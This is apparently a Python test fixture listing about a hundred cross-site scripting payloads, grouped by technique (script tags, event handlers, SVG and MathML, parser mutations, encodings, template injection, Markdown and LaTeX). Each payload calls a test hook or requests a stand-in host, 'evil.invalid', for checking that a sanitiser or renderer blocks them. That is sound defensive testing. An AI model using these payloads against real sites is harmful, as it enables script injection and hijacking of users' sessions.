r"""Texts that would run a script or ask another host, were they taken for anything but words.

Each calls ``ran(N)``, which the tests give to every frame, or asks ``http://evil.invalid/N``; N is
its place in the table, so that whichever gets through is known by its number.
"""

HOST = "evil.invalid"

_BY_CLASS = {
    "script": (
        "<script>RUN</script>",
        "<ScRiPt >RUN</sCrIpT >",
        "<script src=//evil.invalid/N></script>",
        "<script type=module>RUN</script>",
        "</script><script>RUN</script>",
        "<script>/*<!-- */RUN//--></script>",
    ),
    "image": (
        "<img src=x onerror=RUN>",
        "<IMG SRC=x ONERROR='RUN'>",
        '<img/src="x"/onerror="RUN">',
        "<img src=http://evil.invalid/N>",
        "<img srcset='http://evil.invalid/N 1x'>",
        "<image src=x onerror=RUN>",
        "<picture><source srcset=http://evil.invalid/N><img src=x></picture>",
        "<video src=http://evil.invalid/N onerror=RUN></video>",
        "<video poster=http://evil.invalid/N></video>",
        "<audio src=x onerror=RUN></audio>",
        "<input type=image src=x onerror=RUN>",
    ),
    "svg and math": (
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><image href=http://evil.invalid/N /></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'></use></svg>",
        "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
        "<math><mtext><img src=x onerror=RUN></mtext></math>",
        "<math href=javascript:RUN>x</math>",
    ),
    "handlers": (
        "<body onload=RUN>",
        "<details open ontoggle=RUN>x</details>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN></select>",
        "<div style=animation:x onanimationstart=RUN>x</div>",
        "<marquee onstart=RUN>x</marquee>",
        "<a tabindex=1 id=x onfocus=RUN autofocus>x</a>",
    ),
    "frames and plugins": (
        "<iframe src=javascript:parent.RUN></iframe>",
        '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
        "<iframe src=http://evil.invalid/N></iframe>",
        "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
        "<object data=http://evil.invalid/N></object>",
        "<embed src=http://evil.invalid/N>",
        "<frameset onload=RUN><frame src=http://evil.invalid/N></frameset>",
    ),
    "head": (
        "<meta http-equiv=refresh content='0;url=http://evil.invalid/N'>",
        "<base href=http://evil.invalid/N/><img src=x>",
        "<link rel=stylesheet href=http://evil.invalid/N>",
        "<style>@import url(http://evil.invalid/N);</style>",
        "<style>body{background:url(http://evil.invalid/N)}</style>",
        "<b style='background:url(http://evil.invalid/N)'>x</b>",
        "<template><script>RUN</script></template><img src=x onerror=RUN>",
        "</title><script>RUN</script>",
        "</style><script>RUN</script>",
    ),
    "forms": (
        "<form action=javascript:RUN><button autofocus onfocus=RUN>x</button></form>",
        "</textarea><img src=x onerror=RUN>",
        "</select><img src=x onerror=RUN>",
    ),
    "breakouts of attributes": (
        '" onfocus=RUN autofocus tabindex=1 x="',
        "' onfocus=RUN autofocus tabindex=1 x='",
        '"><img src=x onerror=RUN>',
        "'><img src=x onerror=RUN>",
        "&quot;><img src=x onerror=RUN>",
        "`><img src=x onerror=RUN>",
        "x onerror=RUN src=x",
    ),
    "Markdown": (
        "![x](http://evil.invalid/N)",
        "[x](javascript:RUN)",
        "[x]: http://evil.invalid/N\n![x]",
        "<http://evil.invalid/N>",
        "![x](data:text/html,<script>RUN</script>)",
        '[x](http://evil.invalid/N "onmouseover=RUN")',
        "```html\n<img src=x onerror=RUN>\n```",
        "| <img src=x onerror=RUN> | x |\n|---|---|",
        "<!-- x --><img src=x onerror=RUN>",
    ),
    "LaTeX": (
        "$\\href{javascript:RUN}{x}$",
        "$$\\includegraphics{http://evil.invalid/N}$$",
        "\\(\\htmlData{x=<img src=x onerror=RUN>}{x}\\)",
    ),
    "mutations": (
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
        "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RUN>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<![CDATA[><img src=x onerror=RUN>]]>",
        "<!--><img src=x onerror=RUN>-->",
        "<?xml ?><img src=x onerror=RUN>",
        "<plaintext><img src=x onerror=RUN>",
        "<xmp></xmp><img src=x onerror=RUN>",
    ),
    "encodings": (
        "&lt;img src=x onerror=RUN&gt;",
        "&#60;img src=x onerror=RUN&#62;",
        "&amp;lt;img src=x onerror=RUN&amp;gt;",
        "%3Cimg%20src=x%20onerror=RUN%3E",
        "\\u003cimg src=x onerror=RUN\\u003e",
        "+ADw-img src=x onerror=RUN+AD4-",
        "\uff1cimg src=x onerror=RUN\uff1e",
        "<a href='java\tscript:RUN'>x</a><img src=x onerror=RUN>",
        "<img src=x onerror=\u2028RUN>",
        "<\0script>RUN</\0script>",
    ),
    "templates": (
        "${RUN}",
        "{{RUN}}",
        "{@html '<img src=x onerror=RUN>'}",
        "{#if RUN}x{/if}",
        "<% RUN %>",
        "#{RUN}",
        "{{constructor.constructor('RUN')()}}",
    ),
    "half-open tags": (
        "<img src=x onerror=RUN",
        "<img src=x onerror=RUN//",
        "<iframe src=javascript:parent.RUN <",
        "<<script>RUN//<</script>",
        "<svg/onload=RUN",
    ),
}

PAYLOADS = tuple(
    text.replace("RUN", f"ran({number})").replace("evil.invalid/N", f"evil.invalid/{number}")
    for number, text in enumerate(text for texts in _BY_CLASS.values() for text in texts)
)
